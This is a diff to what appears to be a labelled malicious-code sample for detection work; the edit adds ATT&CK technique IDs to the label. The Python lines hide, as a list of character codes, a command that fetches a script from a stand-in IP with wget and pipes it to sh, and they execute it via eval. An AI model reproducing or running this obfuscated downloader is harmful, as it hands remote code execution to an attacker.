@@ -1,3 +1,3 @@
-# label: malicious family=obfuscation techniques=T1027,T1140,T1059.006 lines=2-3
+# label: malicious family=obfuscation techniques=T1027,T1059.004,T1059.006,T1105,T1140 lines=2-3
 _d = [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 34, 119, 103, 101, 116, 32, 45, 113, 79, 45, 32, 104, 116, 116, 112, 58, 47, 47, 49, 57, 50, 46, 48, 46, 50, 46, 57, 49, 47, 109, 124, 115, 104, 34, 41]
 eval(compile(''.join(map(chr, _d)), 'x', 'exec'))
